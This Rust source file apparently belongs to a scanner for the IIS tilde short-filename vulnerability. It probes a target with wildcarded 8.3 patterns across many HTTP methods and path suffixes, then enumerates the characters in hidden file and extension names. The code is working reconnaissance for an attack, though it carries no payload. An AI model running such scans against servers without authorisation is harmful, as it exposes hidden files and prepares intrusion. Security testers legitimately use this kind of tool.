//! Vulnerability detection.
//!
//! Finds a working (HTTP method, path suffix, positive status, negative
//! status) tuple for a target by probing wildcarded 8.3 patterns, then
//! discovers which characters appear in filename and extension slots. Both
//! stages err on the side of recall: a character set is a superset of the
//! true one, and enumeration only starts when the positive and negative
//! markers differ.

use crate::probe::{escape, Probe};
use log::debug;
use rand::Rng;
use std::collections::HashMap;

/// Standard headers plus IIS `DEBUG`, ordered roughly by frequency and
/// probable response time.
pub const HTTP_METHODS: [&str; 40] = [
    "OPTIONS",
    "HEAD",
    "TRACE",
    "DEBUG",
    "GET",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "ACL",
    "BASELINE-CONTROL",
    "BIND",
    "CHECKIN",
    "CHECKOUT",
    "CONNECT",
    "COPY",
    "LABEL",
    "LINK",
    "LOCK",
    "MERGE",
    "MKACTIVITY",
    "MKCALENDAR",
    "MKCOL",
    "MKREDIRECTREF",
    "MKWORKSPACE",
    "MOVE",
    "ORDERPATCH",
    "PRI",
    "PROPFIND",
    "PROPPATCH",
    "REBIND",
    "REPORT",
    "SEARCH",
    "UNBIND",
    "UNCHECKOUT",
    "UNLINK",
    "UNLOCK",
    "UPDATE",
    "UPDATEREDIRECTREF",
    "VERSION-CONTROL",
];

/// Path suffixes to try, in order.
pub const PATH_SUFFIXES: [&str; 7] = [
    "/",
    "",
    "/.aspx",
    "?aspxerrorpath=/",
    "/.aspx?aspxerrorpath=/",
    "/.asmx",
    "/.vb",
];

/// Default character pool for enumeration: letters and digits ordered by
/// frequency in filenames, then the specials Windows allows.
pub const DEFAULT_CHARACTERS: &str = "JFKGOTMYVHSPCANDXLRWEBQUIZ8549176320-_()&'!#$%@^{}~";

/// Alphanumerics used when generating random non-existent paths.
pub const ALPHANUM: &str = "JFKGOTMYVHSPCANDXLRWEBQUIZ8549176320";

/// Characters that are invalid in Windows filenames; configuring them is
/// allowed but warned about.
pub const INVALID_FILENAME_CHARS: [char; 9] = ['<', '>', ':', '"', '/', '\\', '|', '?', '*'];

/// The response codes that signal a wildcard match against an existing
/// alias (`status_pos`) and no match (`status_neg`).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Markers {
    pub status_pos: u16,
    pub status_neg: u16,
}

/// The committed probe configuration for a vulnerable target.
#[derive(Debug, Clone)]
pub struct AttackSetup {
    pub method: String,
    pub suffix: String,
    pub tildes: Vec<String>,
    pub markers: Markers,
}

/// Searches for a working (method, suffix, marker) tuple.
///
/// Patience 0 samples the first four suffixes and nine methods; patience 1
/// tries everything. Returns `None` when no tilde pattern elicits a
/// differential response, i.e. the target does not appear vulnerable.
pub async fn detect(probe: &Probe, url: &str, patience: u8) -> Option<AttackSetup> {
    let (suffix_count, method_count) = if patience == 1 {
        (PATH_SUFFIXES.len(), HTTP_METHODS.len())
    } else {
        (4, 9)
    };

    for suffix in &PATH_SUFFIXES[..suffix_count] {
        'methods: for method in &HTTP_METHODS[..method_count] {
            // Establish a stable negative marker from non-existent
            // patterns (tildes >= ~5 are never created on Windows 2000+)
            let mut status_neg: u16 = 0;
            for _ in 0..4 {
                let n: u32 = rand::rng().random_range(5..10);
                let res = match probe.fetch(method, &format!("{url}*{n}*{suffix}")).await {
                    Ok(res) => res,
                    Err(_) => {
                        debug!("method {method} failed, skipping");
                        continue 'methods;
                    }
                };
                if status_neg != 0 && res.status != status_neg {
                    debug!(
                        "method {method} unstable ({} != {status_neg}), skipping",
                        res.status
                    );
                    continue 'methods;
                }
                status_neg = res.status;
            }

            // Request available 8.3 aliases
            let mut tildes = Vec::new();
            let mut status_pos: u16 = 0;
            for i in 1..=4 {
                let res = match probe.fetch(method, &format!("{url}*~{i}*{suffix}")).await {
                    Ok(res) => res,
                    Err(_) => continue,
                };
                if res.status == status_neg {
                    continue;
                }

                // Disambiguate against a pattern that can never match: if
                // it returns the candidate positive status the server is
                // rate limiting or unstable, so the hit is not accepted
                if let Ok(check) = probe.fetch(method, &format!("{url}*~0*{suffix}")).await {
                    if check.status == res.status {
                        debug!(
                            "negative response differed (pos {} neg {status_neg}), could be rate limiting or server instability",
                            res.status
                        );
                        continue;
                    }
                }

                tildes.push(format!("~{i}"));
                status_pos = res.status;
            }

            if !tildes.is_empty() {
                return Some(AttackSetup {
                    method: method.to_string(),
                    suffix: suffix.to_string(),
                    tildes,
                    markers: Markers {
                        status_pos,
                        status_neg,
                    },
                });
            }
        }
    }

    None
}

/// Discovers which characters occur in filename and extension slots.
///
/// Two passes over the configured pool (stem first, then extension); each
/// hit enlists the character into the per-tilde slot charset. A response
/// differing from the negative marker counts as a hit.
pub async fn discover_charsets(
    probe: &Probe,
    url: &str,
    setup: &AttackSetup,
    characters: &str,
) -> (HashMap<String, String>, HashMap<String, String>) {
    let mut file_chars: HashMap<String, String> = HashMap::new();
    let mut ext_chars: HashMap<String, String> = HashMap::new();

    for pass in 0..2 {
        for ch in characters.chars() {
            for tilde in &setup.tildes {
                let esc = escape(&ch.to_string());
                let check_url = if pass == 0 {
                    format!("{url}*{esc}*{tilde}*{}", setup.suffix)
                } else {
                    format!("{url}*{tilde}*{esc}*{}", setup.suffix)
                };

                if let Ok(res) = probe.fetch(&setup.method, &check_url).await {
                    if res.status != setup.markers.status_neg {
                        let map = if pass == 0 {
                            &mut file_chars
                        } else {
                            &mut ext_chars
                        };
                        map.entry(tilde.clone()).or_default().push(ch);
                    }
                }
            }
        }
    }

    (file_chars, ext_chars)
}
